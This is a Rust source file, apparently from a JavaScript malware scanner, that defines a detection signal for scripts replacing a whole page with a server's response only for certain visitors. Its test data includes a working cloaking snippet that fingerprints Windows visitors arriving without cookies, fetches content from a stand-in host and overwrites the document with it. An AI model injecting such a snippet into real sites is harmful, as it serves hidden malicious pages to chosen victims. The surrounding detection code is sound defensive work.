//! `page-replaced-for-some-visitors`.

use crate::facts::Atom;
use crate::signals::{Evidence, Held, Signal, one};
use crate::taint::{Mark, Sink};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "page-replaced-for-some-visitors",
    description: "The script replaces the page with a server's response, but only for some visitors.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[
        one(&[Atom::Referrer, Atom::SearchEngine]),
        one(&[Atom::Cookie, Atom::Storage, Atom::SignedIn]),
        one(&[Atom::BrowserCheck, Atom::Robot]),
        one(&[Atom::Request, Atom::AnswerBody]),
    ],
    within: 500,
    only_if: Some(is_replaced),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            r#"if(/Windows/.test(navigator.userAgent)&&document.referrer&&!document.cookie){var x=new XMLHttpRequest;x.open('GET','https://c.example/p');x.onload=function(){document.documentElement.innerHTML=x.responseText};x.send()}"#,
        ],
        without: &[
            r#"if(/Windows/.test(navigator.userAgent)&&document.referrer&&!document.cookie){var x=new XMLHttpRequest;x.open('GET','/news');x.onload=function(){document.getElementById('news').innerHTML=x.responseText};x.send()}"#,
            r#"var x=new XMLHttpRequest;x.open('GET',location.href);x.onload=function(){document.documentElement.innerHTML=x.responseText};x.send()"#,
        ],
    },
};

/// Whether the whole page becomes what was answered.
fn is_replaced(evidence: &Evidence<'_>, held: Held) -> bool {
    let (stream, items) = (evidence.stream, evidence.stream.items());
    let near = held.first.saturating_sub(NEAR)..held.last.saturating_add(NEAR);
    evidence.flows.iter().filter(|flow| flow.sink == Sink::Markup && near.contains(&flow.at)).any(|flow| {
        let answered = flow.marks.has(Mark::Response) || flow.marks.has(Mark::Remote);
        let whole = (flow.at as usize).checked_sub(1).map_or("", |before| stream.text(&items[before]));
        answered && matches!(whole, "documentElement" | "body" | "document")
    })
}

/// Items around the place in which the page may be replaced.
const NEAR: u32 = 200;
